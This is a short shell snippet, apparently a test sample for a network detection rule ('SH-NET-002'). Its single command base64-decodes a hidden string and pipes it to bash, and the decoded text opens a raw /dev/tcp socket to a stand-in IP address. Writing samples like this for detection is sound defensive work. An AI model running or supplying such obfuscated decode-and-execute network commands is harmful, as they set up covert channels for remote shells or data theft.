# rule: SH-NET-002
# attempts: Network is unreachable
echo ZXhlYyAzPD4vZGV2L3RjcC8yMDMuMC4xMTMuOS84MA== | base64 -d | bash
